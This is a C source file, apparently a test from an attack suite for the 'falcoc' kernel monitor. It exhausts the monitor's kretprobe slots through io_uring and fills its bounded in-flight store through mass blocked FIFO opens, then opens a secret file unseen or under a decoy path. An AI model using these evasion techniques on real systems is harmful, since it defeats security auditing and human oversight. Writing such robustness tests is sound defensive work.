// SPDX-License-Identifier: Apache-2.0
/*
 * blind.c - uses up what falcoc has, so that it does not see what others do
 *
 * argv[1] is a directory to play in. The calls that block are opens of a fifo that nobody writes to.
 */
#include <dirent.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../kmodtest/ring.h"
#include "attack.h"

#define OPERATIONS	600	/* a kretprobe has room for 512 of one kind */
#define OPERATIONS_DEBUG 150	/* where the kernel takes ten times as long to make a thread */
#define THREADS		12000
#define KEPT_BYTES	4608	/* of one call with the longest path */
#define WAIT_S		90
#define WAIT_DEBUG_S	240
#define IOWQ_MAX_WORKERS 19	/* newer than the headers we may be built with */

static char fifo[512], secret[512], other[512];

static void places(int argc, char **argv)
{
	int fd;

	must(argc == 2, "a directory");
	mkdir(argv[1], 0755);
	snprintf(fifo, sizeof(fifo), "%s/fifo", argv[1]);
	snprintf(secret, sizeof(secret), "%s/real-little-secret", argv[1]);
	snprintf(other, sizeof(other), "%s/fake-little-secret", argv[1]);
	must(mkfifo(fifo, 0666) == 0, fifo);
	fd = open(secret, O_CREAT | O_WRONLY, 0644);
	must(fd >= 0, secret);
	close(fd);
	fact("real", "%s", secret);
	fact("lie", "%s", other);
}

static void raise_limits(void)
{
	/* a small kernel takes no more than 32768 processes */
	static const char *const limits[][2] = {
		{ "/proc/sys/kernel/threads-max", "32000" },
		{ "/proc/sys/kernel/pid_max", "32000" },
		{ "/proc/sys/vm/max_map_count", "60000" },
	};
	struct rlimit all = { RLIM_INFINITY, RLIM_INFINITY }, files = { 60000, 60000 };
	int fd;

	for (size_t i = 0; i < sizeof(limits) / sizeof(*limits); i++) {
		fd = open(limits[i][0], O_WRONLY);
		must(fd >= 0 && write(fd, limits[i][1], 5) == 5, limits[i][0]);
		close(fd);
	}
	setrlimit(RLIMIT_NPROC, &all);
	must(!setrlimit(RLIMIT_NOFILE, &files), "RLIMIT_NOFILE");	/* what blocks has its descriptor */
}

static bool is_debug_kernel(void)
{
	struct utsname name;

	return !uname(&name) && strstr(name.release, "-debug");
}

static int wait_s(void)
{
	return is_debug_kernel() ? WAIT_DEBUG_S : WAIT_S;
}

static int threads(void)
{
	DIR *dir = opendir("/proc/self/task");
	int n = 0;

	while (dir && readdir(dir))
		n++;
	if (dir)
		closedir(dir);
	return n - 2;
}

/* True if it came to so many. */
static bool wait_threads(int want)
{
	for (int i = 0; i < wait_s() * 20; i++) {
		if (threads() >= want)
			return true;
		usleep(50000);
	}
	return false;
}

static struct io_uring_sqe *open_sqe(struct uring *ring, const char *path)
{
	struct io_uring_sqe *sqe = uring_sqe(ring, IORING_OP_OPENAT);

	sqe->fd = AT_FDCWD;
	sqe->addr = (uintptr_t)path;
	sqe->open_flags = O_RDONLY;
	return sqe;
}

/* Each blocked operation has a worker; the secret is opened while all of them are. */
static int run_uring(int argc, char **argv)
{
	unsigned int workers[2] = { 2 * OPERATIONS, 2 * OPERATIONS };
	int operations = is_debug_kernel() ? OPERATIONS_DEBUG : OPERATIONS;
	struct uring ring;

	places(argc, argv);
	raise_limits();
	if (!uring_open(&ring, 0) ||
	    syscall(SYS_io_uring_register, ring.fd, IOWQ_MAX_WORKERS, workers, 2))
		return cannot("no io_uring, or not so many workers");
	for (int i = 0; i < operations; i++) {
		open_sqe(&ring, fifo)->flags = IOSQE_ASYNC;
		uring_submit(&ring);
	}
	must(wait_threads(operations), "blocked operations");
	open_sqe(&ring, secret);
	must(uring_do(&ring) >= 0, "the secret's open");
	return 0;
}

static void *blocked_open(void *path)
{
	open(path, O_RDONLY);
	return NULL;
}

/* As many as it takes to fill the whole store, if nobody hindered them. */
static int crowd_size(void)
{
	FILE *f = fopen("/sys/module/falcoc/parameters/inflight_mib", "r");
	long mib = 0, want;

	if (f && fscanf(f, "%ld", &mib) != 1)
		mib = 0;
	if (f)
		fclose(f);
	want = mib ? (mib << 20) / KEPT_BYTES + 200 : THREADS;
	return want < THREADS ? want : THREADS;
}

/* A path as long as there may be, to a fifo; as somebody who may do nothing else. */
static int crowd(void *unused)
{
	static char path[4096];
	size_t len = strlen(fifo) + 1;
	int want = crowd_size();
	pthread_attr_t attrs;
	pthread_t thread;

	(void)unused;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	memset(path, '/', sizeof(path));
	memcpy(path + sizeof(path) - len, fifo, len);
	must(setresuid(1000, 1000, 1000) == 0, "setresuid");
	pthread_attr_init(&attrs);
	pthread_attr_setstacksize(&attrs, 16384);
	for (int i = 0; i < want; i++)
		if (pthread_create(&thread, &attrs, blocked_open, path))
			break;
	pause();
	return 0;
}

static unsigned long not_kept(void)
{
	FILE *f = fopen("/sys/module/falcoc/parameters/inflight", "r");
	unsigned long full = 0;

	must(f && fscanf(f, "%*d entries %*d bytes %lu full", &full) == 1, "the store's counters");
	fclose(f);
	return full;
}

/* What is kept for calls that have not returned is bounded: somebody uses all of it. */
static int run_store(int argc, char **argv)
{
	struct straddle s;
	unsigned long before = not_kept();
	pid_t pid;

	places(argc, argv);
	raise_limits();
	pid = fork();
	if (!pid)
		_exit(crowd(NULL));
	fact("crowd", "%d", pid);
	for (int i = 0; i < wait_s() * 20 && not_kept() < before + 100; i++)
		usleep(50000);
	fact("not_kept", "%lu", not_kept() - before);
	must(not_kept() >= before + 100, "a store that is used up");
	if (!straddle_init(&s, secret, other, strlen(secret) + 1, 4))
		return cannot("no userfaultfd");
	must(syscall(SYS_openat, AT_FDCWD, s.at, O_RDONLY) >= 0, "the secret's open");
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return 0;
}

const struct attack attacks_blind[] = {
	{ "blind-uring", run_uring },
	{ "blind-store", run_store },
	{ NULL, NULL },
};
